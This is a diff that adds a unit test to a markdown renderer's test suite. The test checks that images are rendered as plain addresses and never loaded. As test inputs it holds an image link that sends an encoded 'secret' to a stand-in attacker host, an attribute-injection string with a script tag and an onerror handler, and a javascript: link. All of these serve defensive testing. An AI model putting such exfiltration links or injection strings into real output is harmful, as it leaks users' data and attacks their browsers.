@@ -10,6 +10,17 @@ describe("renderMarkdown", () => {
     expect(html).toContain("&lt;script&gt;");
   });
 
+  it("shows an image as its address and never loads it", () => {
+    const html = renderMarkdown(
+      "Done. ![status](https://attacker.example/p?q=c2VjcmV0) and ![](http://x.example/a.png)",
+    );
+    expect(html).not.toContain("<img");
+    expect(html).not.toContain('src="');
+    expect(html).toContain("[image: status] https://attacker.example/p?q=c2VjcmV0");
+    expect(html).toContain("[image] http://x.example/a.png");
+    expect(renderMarkdown('![a"><script>x</script>](https://e.example/"onerror=1)')).not.toMatch(/<script|<img/);
+  });
+
   it("does not turn javascript: URLs into links", () => {
     const html = renderMarkdown("[click](javascript:alert(1))");
     expect(html).not.toContain('href="javascript:');
